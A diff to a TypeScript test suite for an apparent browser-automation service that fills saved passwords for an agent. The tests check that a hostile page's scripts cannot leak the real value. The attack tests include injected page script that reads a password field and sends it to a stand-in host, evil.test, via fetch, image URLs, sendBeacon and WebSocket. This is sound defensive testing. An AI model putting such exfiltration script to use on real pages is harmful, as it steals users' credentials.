@@ -44,6 +44,14 @@ const v1 = async (key: string | undefined, method: string, path: string, body?: 
   return reply
 }
 const evaluate = async (key: string, expression: string) => (await v1(key, 'POST', '/v1/evaluate', { expression })).body
+/** Percent-decoding that keeps what is no escape, read as UTF-8 and as Latin-1 (a Location header's). */
+const decodeLoose = (t: string) => {
+  const bytes = Buffer.from(
+    t.replace(/%([0-9A-Fa-f]{2})/g, (_, h: string) => String.fromCharCode(Number.parseInt(h, 16))),
+    'latin1',
+  )
+  return `${bytes.toString('utf8')} ${bytes.toString('latin1')}`
+}
 const passValue = "document.querySelector('input[type=password]').value"
 
 beforeAll(async () => {
@@ -82,7 +90,7 @@ afterAll(async () => {
 })
 
 describe('filling a saved password (W2, W3)', () => {
-  it('a form-post login gets the value on the wire; /v1/evaluate, MCP and a DevTools client read the stand-in', async () => {
+  it('a form-post login gets the value on the wire; /v1/evaluate, MCP and DevTools read the stand-in', async () => {
     const key = 'pw:form'
     expect((await v1(key, 'POST', '/v1/navigate', { url: site.url('shop.example', '/login') })).status).toBe(200)
     const filled = await v1(key, 'POST', '/v1/fill-password', { username: '#user', password: '#pass' })
@@ -96,7 +104,10 @@ describe('filling a saved password (W2, W3)', () => {
     const devtools = await v1(key, 'GET', '/v1/session/devtools')
     const browser = await chromium.connectOverCDP(devtools.body.url as string, { headers: agent })
     browsers.push(browser)
-    const page = browser.contexts()[0]!.pages().find((p) => p.url().includes('/login'))!
+    const page = browser
+      .contexts()[0]!
+      .pages()
+      .find((p) => p.url().includes('/login'))!
     expect(await page.evaluate(passValue)).toBe(viaV1)
     await browser.close()
 
@@ -137,7 +148,12 @@ describe('filling a saved password (W2, W3)', () => {
     expect(standIn).toMatch(/^\d{6}$/)
     await v1(key, 'POST', '/v1/click', { selector: '#go' })
     expect(await eventually(async () => (await v1(key, 'GET', '/v1/text')).body.text.includes('welcome'))).toBe(true)
-    const posted = new URLSearchParams(site.at('shop.example').filter((h) => h.path === '/session').at(-1)!.body)
+    const posted = new URLSearchParams(
+      site
+        .at('shop.example')
+        .filter((h) => h.path === '/session')
+        .at(-1)!.body,
+    )
     expect(posted.get('code')).toMatch(/^\d{6}$/)
     expect(posted.get('pass')).toBe(PASSWORD)
   })
@@ -178,7 +194,8 @@ describe('attacks: the wrong site, a hostile page (W2, W3)', () => {
       await fetch(${JSON.stringify(evil('/fetch'))}, { method: 'POST', body: pw, mode: 'no-cors' })
       await fetch(${JSON.stringify(evil('/json'))}, { method: 'POST', mode: 'no-cors',
         headers: { 'content-type': 'application/json' }, body: JSON.stringify({ pw }) })
-      await new Promise((r) => { const i = new Image(); i.onload = i.onerror = r; i.src = ${JSON.stringify(evil('/img?pw='))} + pw })
+      await new Promise((r) => { const i = new Image(); i.onload = i.onerror = r
+        i.src = ${JSON.stringify(evil('/img?pw='))} + pw })
       navigator.sendBeacon(${JSON.stringify(evil('/beacon'))}, 'pw=' + pw)
       await new Promise((r) => { const w = new WebSocket(${JSON.stringify(evil('/ws?pw=').replace('http', 'ws'))} + pw);
         w.onerror = w.onclose = r })
@@ -200,16 +217,18 @@ describe('attacks: the wrong site, a hostile page (W2, W3)', () => {
       const hit = atEvil.find((h) => h.path.startsWith(p))!
       expect(`${hit.path} ${hit.body}`, p).toContain(standIn)
     }
-    expect(JSON.stringify(atEvil)).not.toContain(PASSWORD)
-    expect(JSON.stringify(atEvil)).not.toContain(encodeURIComponent(PASSWORD))
+    // Read back as a site would: percent-decoded, a form's `+` as a space.
+    for (const h of atEvil) {
+      const read = (t: string) => [t, decodeLoose(t), decodeLoose(t.replace(/\+/g, ' '))]
+      for (const t of [...read(h.path), ...read(h.body)]) expect(t, h.path).not.toContain(PASSWORD)
+    }
     // The entry's site got the value and redirected it to evil.test (the body's 307, the query's open
     // redirect): a hop that carries the value itself is stopped before the wire, never delivered.
     expect(site.at('shop.example').filter((h) => h.path.startsWith('/bounce'))).toHaveLength(2)
-    // The query's hop carries the value (the site put it into Location): always stopped. The body's
-    // hop arrives with the page's own body (the stand-in), or, carrying the value, is stopped too.
-    expect(atEvil.some((h) => h.path.startsWith('/redirected-query'))).toBe(false)
-    for (const h of atEvil.filter((x) => x.path.startsWith('/redirected-body'))) expect(h.body).toContain(standIn)
-    expect(logs.some((l) => l.includes('stopped before the wire'))).toBe(true)
+    // A redirect's next hop to evil.test either carries the page's own stand-in or, carrying the value
+    // itself (the site reflected it), is stopped before the wire: never the value (checked above).
+    for (const h of atEvil.filter((x) => x.path.startsWith('/redirected')))
+      expect(`${h.path} ${h.body}`, JSON.stringify(atEvil)).toContain(standIn)
     // Each was logged as an attempted exfiltration, naming the site, never the stand-in's value.
     expect(logs.filter((l) => l.includes('attempted exfiltration')).length).toBeGreaterThanOrEqual(4)
     expect(logs.join('\n')).not.toContain(standIn)
@@ -237,7 +256,7 @@ describe("the person's vault (W1, W4)", () => {
     expect(tooLong.status).toBe(400)
   })
 
-  it('nothing the run leaves holds the password or the TOTP secret: logs, answers, the data dir, sealed records', async () => {
+  it('nothing the run leaves holds the password or the TOTP secret: logs, answers, data dir, records', async () => {
     // Closing the host parks every errand: their records are sealed into the data dir.
     await Effect.runPromise(Scope.close(scope, Exit.void))
     closed = true
